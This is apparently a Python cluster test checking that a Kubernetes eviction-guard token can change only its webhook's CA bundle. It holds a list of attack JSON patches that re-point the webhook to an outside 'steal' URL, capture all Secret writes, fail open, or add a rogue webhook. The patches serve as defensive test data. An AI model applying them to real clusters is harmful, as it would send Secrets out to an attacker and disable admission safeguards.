"""The stack attacked with its agents' own tokens, on the real API server: what an agent's role does not
need is refused by the API server itself (RBAC and the stack's admission policies), with a message that
names the rule. Writes are dry runs where the request allows it (admission runs on them too).

The node agents' tokens are bound to their pods (they carry the node's name), as the kubelet projects
them; the cluster-wide controllers' tokens are plain TokenRequest tokens of their ServiceAccounts.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from localcluster import ApiError, Kube
from localcluster.objects import service_account_kube, wait_for
from nvgpu import evictionguard as contract
from nvidia_gpu.components.manifests import evictionguard as guard_manifests
from tests.cluster.evictionguard import running_guard

pytestmark = pytest.mark.cluster

JSON_PATCH = "application/json-patch+json"
WEBHOOKS = "admissionregistration.k8s.io/v1"


def _refused(call: Callable[[], Any]) -> ApiError:
    with pytest.raises(ApiError) as caught:
        call()
    return caught.value


def _namespace(kube: Kube, name: str) -> None:
    kube.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}})


#: What a stolen eviction-guard token tried in the review, each a JSON patch of the guard's own webhook
#: configuration (the one object its RBAC lets it patch).
GUARD_ATTACKS: dict[str, list[dict[str, Any]]] = {
    "re-point the webhook at another URL": [
        {"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://203.0.113.7:8443/steal"}],
    "ask for every Secret write": [
        {"op": "replace", "path": "/webhooks/0/rules", "value": [
            {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
             "resources": ["secrets"], "scope": "*"}]}],
    "fail open": [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}],
    "judge everyone's evictions": [{"op": "remove", "path": "/webhooks/0/matchConditions"}],
    "add a second webhook": [
        {"op": "add", "path": "/webhooks/-", "value": {
            "name": "steal.example.com", "clientConfig": {"url": "https://203.0.113.7/x"},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["secrets"]}],
            "sideEffects": "None", "admissionReviewVersions": ["v1"]}}],
    "rename the webhook": [{"op": "replace", "path": "/webhooks/0/name", "value": "other.mig-manager.nvidia-gpu.io"}],
    "time out every eviction": [{"op": "replace", "path": "/webhooks/0/timeoutSeconds", "value": 30}],
    "hand the configuration to an owner the garbage collector deletes": [
        {"op": "add", "path": "/metadata/ownerReferences", "value": [
            {"apiVersion": "v1", "kind": "ConfigMap", "name": "gone", "uid": "00000000-0000-0000-0000-000000000001"}]}],
    "hold its deletion with a finalizer": [
        {"op": "add", "path": "/metadata/finalizers", "value": ["example.com/hold"]}],
}


def test_the_eviction_guards_token_may_change_only_its_webhooks_ca_bundle(kube: Kube, tmp_path: Path) -> None:
    """Its patch right on its webhook configuration is held to ``caBundle`` by the stack's admission
    policy: the guard itself keeps working (it set its CA under the policy), every other change is refused."""
    ns = "guard-token"
    _namespace(kube, ns)
    with running_guard(kube, ns, tmp_path):
        token = service_account_kube(kube, ns, contract.COMPONENT)
        path = token.resource(WEBHOOKS, "ValidatingWebhookConfiguration").path(None, contract.configuration_name(ns))

        def patch(ops: list[dict[str, Any]]) -> Any:
            return token.request("PATCH", path, ops, content_type=JSON_PATCH, query={"dryRun": "All"})

        def policy_in_force() -> bool | None:
            try:
                patch(GUARD_ATTACKS["fail open"])
            except ApiError as e:
                return e.status == 403 or None
            return None

        wait_for(policy_in_force, timeout=60, interval=0.2, what="the guard's CA-only policy enforced")
        other_ca = base64.b64encode(b"-----BEGIN CERTIFICATE-----\nrotated\n-----END CERTIFICATE-----\n").decode()
        patch([{"op": "replace", "path": "/webhooks/0/clientConfig/caBundle", "value": other_ca}])  # its own field
        policy = guard_manifests.ca_only_policy_name(ns)
        for attack, ops in GUARD_ATTACKS.items():
            e = _refused(lambda ops=ops: patch(ops))  # type: ignore[misc]
            assert (e.status, e.reason) == (403, "Forbidden"), (attack, e)
            assert f"ValidatingAdmissionPolicy '{policy}'" in e.message, (attack, e.message)
            assert "the eviction guard may" in e.message, (attack, e.message)
        # RBAC: no other configuration, no delete, no create.
        for what, call in {
            "delete its configuration": lambda: token.request("DELETE", path, query={"dryRun": "All"}),
            "patch the stack's node policy": lambda: token.request(
                "PATCH", token.resource(WEBHOOKS, "ValidatingAdmissionPolicy").path(None, "any"), [],
                content_type=JSON_PATCH),
            "create a configuration": lambda: token.request(
                "POST", token.resource(WEBHOOKS, "ValidatingWebhookConfiguration").path(None, None),
                {"apiVersion": WEBHOOKS, "kind": "ValidatingWebhookConfiguration", "metadata": {"name": "steal"},
                 "webhooks": []}, query={"dryRun": "All"}),
        }.items():
            e = _refused(call)
            assert e.status == 403, (what, e)
